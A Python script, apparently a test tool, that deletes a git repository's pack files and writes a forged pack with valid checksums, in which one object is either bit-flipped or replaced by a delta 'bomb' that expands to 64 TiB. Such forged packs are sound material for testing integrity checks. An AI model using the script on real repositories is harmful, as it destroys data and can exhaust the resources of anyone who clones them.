"""Replaces the packs of a repository by one in which an object is another than its name
says, though all digests of the files are right.

    forge_pack.py REPOSITORY OBJECT            one bit of it is another
    forge_pack.py REPOSITORY OBJECT BASE       it is a few bytes that unpack, by its difference
                                               from that object, to 64 TiB
"""
import glob
import hashlib
import os
import struct
import subprocess
import sys
import zlib

KINDS = {b"commit": 1, b"tree": 2, b"blob": 3, b"tag": 4}


def objects(repository):
    out = subprocess.run(["git", "-C", repository, "cat-file", "--batch-all-objects", "--batch"],
                         check=True, stdout=subprocess.PIPE).stdout
    at = 0
    while at < len(out):
        end = out.index(b"\n", at)
        name, kind, size = out[at:end].split(b" ")
        yield name.decode(), kind, out[end + 1:end + 1 + int(size)]
        at = end + 2 + int(size)


def entry(kind, content):
    size, head = len(content) >> 4, bytes()
    byte = KINDS[kind] << 4 | len(content) & 15
    while size:
        head, byte, size = head + bytes([byte | 128]), size & 127, size >> 7
    return head + bytes([byte]) + zlib.compress(content)


def varint(number):
    text = bytes()
    while number > 127:
        text, number = text + bytes([number & 127 | 128]), number >> 7
    return text + bytes([number])


def bomb(base, size):
    delta = varint(size) + varint(1 << 46) + b"\x90" + bytes([size])  # a copy of the base
    assert len(delta) < 16 and size < 128
    return bytes([7 << 4 | len(delta)]) + bytes.fromhex(base) + zlib.compress(delta)


def forge(repository, victim, base=None):
    all_of = sorted(objects(repository))
    sizes = {name: len(content) for name, _, content in all_of}
    pack = b"PACK" + struct.pack(">II", 2, len(all_of))
    names, checks, offsets = [], [], []
    for name, kind, content in all_of:
        if name == victim and not base:
            content = bytes([content[0] ^ 1]) + content[1:]
        one = entry(kind, content)
        if name == victim and base:
            one = bomb(base, sizes[base])
        names.append(bytes.fromhex(name))
        checks.append(struct.pack(">I", zlib.crc32(one)))
        offsets.append(struct.pack(">I", len(pack)))
        pack += one
    pack += hashlib.sha1(pack).digest()
    fan = [struct.pack(">I", sum(name[0] <= byte for name in names)) for byte in range(256)]
    index = (b"\xfftOc" + struct.pack(">I", 2)
             + b"".join(fan + names + checks + offsets) + pack[-20:])
    index += hashlib.sha1(index).digest()
    folder = os.path.join(repository, "objects/pack")
    for path in glob.glob(folder + "/pack-*"):
        os.unlink(path)
    base = os.path.join(folder, "pack-" + pack[-20:].hex())
    for end, data in ((".pack", pack), (".idx", index)):
        with open(base + end, "wb") as file:
            file.write(data)


forge(*sys.argv[1:])
